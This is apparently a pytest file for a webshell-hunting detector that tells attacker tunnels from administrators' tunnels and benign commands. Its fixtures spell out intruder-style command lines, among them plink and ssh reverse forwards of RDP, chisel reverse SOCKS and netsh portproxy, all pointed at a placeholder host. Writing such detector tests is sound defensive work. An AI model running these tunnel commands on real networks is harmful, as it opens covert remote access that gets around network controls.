"""Programs that lead connections through the server."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from webshellhunt.knowledge.tunnels import find_tunnel

SURE = [
    (r"C:\Windows\Temp\plink.exe", "plink.exe -batch -R 3389:127.0.0.1:3389 root@203.0.113.77 -pw x"),
    (r"C:\Windows\Temp\svc.exe", "svc.exe -N -R 0.0.0.0:8080:10.0.0.9:3389 root@203.0.113.77"),
    (r"C:\Windows\System32\OpenSSH\ssh.exe", "ssh -fN -R 1080 root@203.0.113.77"),
    (r"C:\Users\Public\chisel.exe", "chisel.exe client 203.0.113.77:443 R:socks"),
    (r"C:\Users\Public\update.exe", "update.exe client --fingerprint x 203.0.113.77:443 R:0.0.0.0:9000:socks"),
    (r"C:\ProgramData\frpc.exe", "frpc.exe"),
    (r"C:\ProgramData\svchost.exe", "svchost.exe -c C:\\ProgramData\\frpc.toml"),
    (r"C:\ProgramData\agent.exe", "agent.exe -connect 203.0.113.77:11601 -ignore-cert"),
    (r"C:\ProgramData\e.exe", "e.exe -s rssocks -d 203.0.113.77 -e 8888"),
    (r"C:\ProgramData\n.exe", "n.exe -server=203.0.113.77:8024 -vkey=abc -type=tcp"),
    (r"C:\Windows\System32\netsh.exe", "netsh interface portproxy add v4tov4 listenport=8443 connectport=3389"),
    ("lcx.exe", ""),
]
OF_ADMINISTRATORS = [
    (r"C:\Tools\ngrok.exe", "ngrok.exe http 80"),
    (r"C:\Program Files\cloudflared\cloudflared.exe", "cloudflared.exe --config c.yml tunnel run"),
    (r"C:\Windows\System32\OpenSSH\ssh.exe", "ssh -D 1080 admin@jump.example.com"),
]
HONEST = [
    (r"C:\Windows\System32\OpenSSH\ssh.exe", "ssh admin@jump.example.com"),
    (r"C:\Windows\Temp\plink.exe", "plink.exe -batch admin@switch.example.com show version"),
    (r"C:\Windows\System32\Robocopy.exe", "robocopy C:\\a D:\\b /MIR -R 3 /W:5"),
    (r"C:\Windows\System32\netsh.exe", "netsh interface portproxy show all"),
    (r"C:\Program Files\Backup\agent.exe", "agent.exe -connect backup.example.com:443"),
    (r"C:\Windows\System32\cmd.exe", "cmd.exe -c report.ini"),
    (r"C:\App\client.exe", "client.exe client R: 1"),
    ("", ""),
]


@pytest.mark.parametrize(("image", "command"), SURE)
def test_a_tunnel_of_intruders_is_known_also_under_another_name(image: str, command: str) -> None:
    tunnel = find_tunnel(image, command)
    assert tunnel is not None
    assert tunnel.sure


@pytest.mark.parametrize(("image", "command"), OF_ADMINISTRATORS)
def test_a_tunnel_that_administrators_make_too_is_less(image: str, command: str) -> None:
    tunnel = find_tunnel(image, command)
    assert tunnel is not None
    assert not tunnel.sure


@pytest.mark.parametrize(("image", "command"), HONEST)
def test_other_commands_are_none(image: str, command: str) -> None:
    assert find_tunnel(image, command) is None


@given(st.text(max_size=200), st.text(alphabet="client R:-socks@. 0123456789\\", max_size=2_000))
def test_any_text_is_read_in_bounded_time(image: str, command: str) -> None:
    find_tunnel(image, command)
